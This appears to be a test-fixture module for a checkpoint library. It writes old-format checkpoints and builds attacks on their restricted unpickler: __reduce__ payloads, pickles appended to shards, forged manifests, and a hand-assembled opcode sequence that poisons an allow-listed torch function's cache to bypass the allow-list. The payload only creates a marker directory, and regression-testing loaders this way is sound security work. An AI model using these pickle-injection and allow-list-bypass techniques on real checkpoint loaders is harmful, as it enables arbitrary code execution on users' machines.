"""Checkpoints of format 1 as they were written, attacks on them, and their reader."""

import io
import json
import os
import pathlib
import pickle
import warnings
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import torch
import torch.distributed.checkpoint as dcp
from torch import Tensor
from torch.distributed.checkpoint import filesystem, metadata
from torch.distributed.checkpoint.metadata import (
    BytesStorageMetadata,
    ChunkStorageMetadata,
    Metadata,
    MetadataIndex,
    TensorProperties,
)
from torch.distributed.checkpoint.planner import TensorWriteData, WriteItem, WriteItemType

from nemotron.checkpoint.manifest import folder_name
from nemotron.files import hash_file
from nemotron.parallel.shards import ShardedTensor


class OldShardedTensor(ShardedTensor):
    """Tells torch's distributed checkpoint which rectangles are here."""

    def __create_write_items__(self, name: str, _: object) -> list[WriteItem]:
        properties = TensorProperties(dtype=self.dtype)
        return [
            WriteItem(
                index=MetadataIndex(name, chunk.offsets),
                type=WriteItemType.SHARD,
                tensor_data=TensorWriteData(chunk=chunk, properties=properties, size=self.shape),
            )
            for chunk in self.__create_chunk_list__()
        ]

    def __create_chunk_list__(self) -> list[ChunkStorageMetadata]:
        return [
            ChunkStorageMetadata(offsets=torch.Size(offsets), sizes=piece.shape)
            for offsets, piece in self.shards.items()
        ]

    def __get_tensor_shard__(self, index: MetadataIndex) -> Tensor:
        return self.shards[tuple(index.offset)]


def write_old(
    folder: Path, step: int, tensors: dict[str, Tensor], model: str, state: str = "{}"
) -> Path:
    """Write `folder/step-N` as the version before did; `model` and `state` are JSON."""
    target = folder / folder_name(step)
    target.mkdir(parents=True)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        writer = dcp.FileSystemWriter(str(target), sync_files=True, thread_count=2)
        dcp.save(tensors, storage_writer=writer, no_dist=True)
    (target / "model.json").write_text(model)
    (target / "state.json").write_text(state)
    seal(target, step)
    return target


def seal(target: Path, step: int, layout: int = 1) -> None:
    """Write a manifest that agrees with what is in the folder, as a forger would."""
    files = {
        path.name: {"bytes": path.stat().st_size, "xxh128": hash_file(path)}
        for path in sorted(target.iterdir())
        if path.name != "manifest.json"
    }
    known = {"code_version": "0.1.0", "model_config_hash": "0"}
    manifest = {"format": layout, "step": step, **known, "files": files}
    (target / "manifest.json").write_text(json.dumps(manifest))


class OldUnpickler(pickle.Unpickler):
    """The restricted unpickler of the version before, with its list of allowed names."""

    def find_class(self, module: str, name: str) -> Any:
        allowed = {
            ("torch", "Size"): torch.Size,
            ("torch.serialization", "_get_layout"): torch.serialization._get_layout,
            ("pathlib", "PosixPath"): pathlib.PosixPath,
            (filesystem.__name__, "_StorageInfo"): filesystem._StorageInfo,
            # for members of enumerations, as some releases of Python 3.11 write them
            ("builtins", "getattr"): getattr,
        }
        if (module, name) in allowed:
            return allowed[module, name]
        if module == "torch" and isinstance(dtype := getattr(torch, name, None), torch.dtype):
            return dtype
        if module == metadata.__name__:
            return getattr(metadata, name)
        raise pickle.UnpicklingError(f"{module}.{name}")


class OldReader(dcp.FileSystemReader):
    """The reader of the version before."""

    def read_metadata(self, *args: Any, **kwargs: Any) -> Metadata:
        with open(Path(self.path) / ".metadata", "rb") as file:
            index = OldUnpickler(file).load()
        index.storage_meta.load_id = self.load_id
        return index


def load_old(target: Path, into: dict[str, Any], kind: type[dcp.FileSystemReader]) -> None:
    """Load as the version before did, which reads the index, looks at it, and reads it again."""
    if kind is OldReader:
        assert isinstance(OldReader(str(target)).read_metadata(), Metadata)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        dcp.load(into, storage_reader=kind(str(target)), no_dist=True)


class Planted:
    """Creates a file when a plain unpickler meets it."""

    def __init__(self, mark: Path) -> None:
        self.mark = mark

    def __reduce__(self):
        return os.mkdir, (str(self.mark),)


def plant_object(target: Path, mark: Path) -> None:
    """Replace the index by an object that runs code."""
    (target / ".metadata").write_bytes(pickle.dumps(Planted(mark)))
    seal(target, step_of(target))


def plant_bytes(target: Path, mark: Path) -> None:
    """Append a pickle that runs code to a shard; the index says that every value lies there."""
    index, entries = _append_bytes(target, mark)
    index.state_dict_metadata = entries
    (target / ".metadata").write_bytes(pickle.dumps(index))
    seal(target, step_of(target))


def plant_poison(target: Path, mark: Path) -> None:
    """Let the index change an attribute of a function that the old list allowed.

    `_get_layout` looks names up in its attribute `cache`, which outlives a reading. The first
    reading finds entries of tensors and leaves something behind, by which the second one finds
    entries of bytes. Those are read by `torch.load` without restriction.
    """
    index, entries = _append_bytes(target, mark)
    index.state_dict_metadata = _Poison(index.state_dict_metadata, entries)
    content = io.BytesIO()
    _Assembler(content, 2, fix_imports=False).dump(index)
    (target / ".metadata").write_bytes(content.getvalue())
    seal(target, step_of(target))


def step_of(target: Path) -> int:
    """Return the step in the name of a checkpoint's folder."""
    return int(target.name.removeprefix("step-"))


def _append_bytes(target: Path, mark: Path) -> tuple[Metadata, dict[str, BytesStorageMetadata]]:
    """Append the payload to a shard; returns the index, and entries that point there."""
    index = pickle.loads((target / ".metadata").read_bytes())
    payload, shard = pickle.dumps(Planted(mark)), target / "__0_0.distcp"
    place = filesystem._StorageInfo(shard.name, shard.stat().st_size, len(payload))
    with open(shard, "ab") as file:
        file.write(payload)
    for name in index.state_dict_metadata:
        index.storage_data[MetadataIndex(name)] = place
    return index, {name: BytesStorageMetadata() for name in index.state_dict_metadata}


@dataclass
class _Poison:
    first: dict[str, Any]
    """What the first reading finds."""
    second: dict[str, Any]


class _Assembler(pickle._Pickler):  # type: ignore[misc,name-defined]
    def save(self, value: Any, save_persistent_id: bool = True) -> None:
        if not isinstance(value, _Poison):
            super().save(value, save_persistent_id)
            return
        function, key, found = torch.serialization._get_layout, 10**6, 10**6 + 1
        put = lambda place: pickle.LONG_BINPUT + place.to_bytes(4, "little")  # noqa: E731
        get = lambda place: pickle.LONG_BINGET + place.to_bytes(4, "little")  # noqa: E731
        # the key is a layout at the first reading, and "X" at the second
        for part in (
            *(function, ("torch.strided",), pickle.REDUCE, put(key), pickle.POP),
            *(function, pickle.EMPTY_DICT, "cache", pickle.EMPTY_DICT),
            *(get(key), value.first, pickle.SETITEM, "X", value.second, pickle.SETITEM),
            *(pickle.SETITEM, pickle.BUILD, pickle.POP),
            *(function, get(key), pickle.TUPLE1, pickle.REDUCE, put(found), pickle.POP),
            *(function, {"cache": {"torch.strided": "X"}}, pickle.BUILD, pickle.POP, get(found)),
        ):
            if isinstance(part, bytes):
                self.write(part)
            else:
                super().save(part)
